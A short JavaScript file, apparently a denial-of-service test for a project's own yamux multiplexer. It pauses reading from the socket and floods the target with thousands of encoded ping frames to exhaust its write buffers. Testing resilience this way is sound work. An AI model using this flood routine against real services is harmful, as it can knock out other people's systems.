import { encodeHeader } from '../src/yamux/frame.js';
import { attackHost } from './lib/attack.js';

const pings = Buffer.concat(
  Array.from({ length: 4096 }, (_, length) =>
    Buffer.from(encodeHeader({ type: 'ping', flags: 1, streamId: 0, length })),
  ),
);

attackHost({
  multiplexed(_, socket) {
    // After the first health check, for which a start waits.
    setTimeout(() => {
      socket.pause();
      const pour = () => {
        while (!socket.destroyed && socket.write(pings));
      };
      socket.on('drain', pour);
      pour();
    }, 500);
  },
});
